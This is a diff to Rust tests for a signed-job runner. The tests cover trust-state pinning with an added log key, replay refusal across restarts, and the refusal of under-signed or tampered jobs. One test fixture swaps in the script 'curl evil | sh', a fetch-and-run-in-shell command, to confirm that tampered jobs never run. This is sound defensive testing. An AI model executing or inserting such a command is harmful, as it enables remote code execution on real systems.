@@ -277,8 +277,9 @@ fn trust_state_survives_a_restart() {
 
     let pin = root_fingerprint(&signed_v1(&k));
     TrustState::pin(&state_dir, &pin).expect("pin");
+    TrustState::pin_log_key(&state_dir, &log_signer().verifier().to_vkey()).expect("pin log key");
     let loaded = TrustState::load(&state_dir, &l).expect("load");
-    assert_eq!(loaded, TrustState::new(pin));
+    assert_eq!(loaded, fresh(&k));
 
     let mut state = ready(&k);
     let outcomes = state.apply(
@@ -475,24 +476,21 @@ async fn a_replay_is_refused_across_restarts() {
 
     // Delivered again before the result was acknowledged: the spooled
     // result stands (it is sent again), nothing runs.
-    assert_eq!(runner.process(&first).await, None);
+    assert_eq!(runner.process(&redeliver(&first)).await, None);
     assert_eq!(runner.spool().all().expect("spool"), vec![result]);
     runner.spool().remove(&[2; 16]).expect("ack");
 
     // After a restart and the acknowledgement: a replay, refused and reported.
     drop(runner);
     let mut runner = self::runner(state_dir, ready(&k));
-    let replay = runner.process(&first).await.expect("result");
+    let replay = runner.process(&redeliver(&first)).await.expect("result");
     assert_eq!(refusal_code(&replay), "replayed");
     // Another job id with the same nonce is a replay too.
     let mut statement: JobStatement = job_statement(&k, 2, script, 30)
         .statement(&Limits::default())
         .expect("statement");
     statement.job_id = [3; 16];
-    let same_nonce = Job {
-        envelope: signed(&statement, &[&k.alice, &k.bob]).to_bytes(),
-        script: script.to_vec(),
-    };
+    let same_nonce = logged(&signed(&statement, &[&k.alice, &k.bob]), script);
     let replay = runner.process(&same_nonce).await.expect("result");
     assert_eq!(replay.job_id, [3; 16]);
     assert_eq!(refusal_code(&replay), "replayed");
@@ -546,13 +544,7 @@ async fn refused_jobs_are_reported_and_never_run() {
     let mut runner = runner(&dir.path().join("c"), ready(&k));
     let mut one = job_statement(&k, 6, script, 30);
     one.signatures.pop();
-    let result = runner
-        .process(&Job {
-            envelope: one.to_bytes(),
-            script: script.to_vec(),
-        })
-        .await
-        .expect("result");
+    let result = runner.process(&logged(&one, script)).await.expect("result");
     assert_eq!(refusal_code(&result), "too_few_signers");
     let mut swapped = job(&k, 7, script, 30);
     swapped.script = b"curl evil | sh\n".to_vec();
@@ -563,7 +555,8 @@ async fn refused_jobs_are_reported_and_never_run() {
         runner
             .process(&Job {
                 envelope: vec![0xff],
-                script: script.to_vec()
+                script: script.to_vec(),
+                log: None,
             })
             .await,
         None
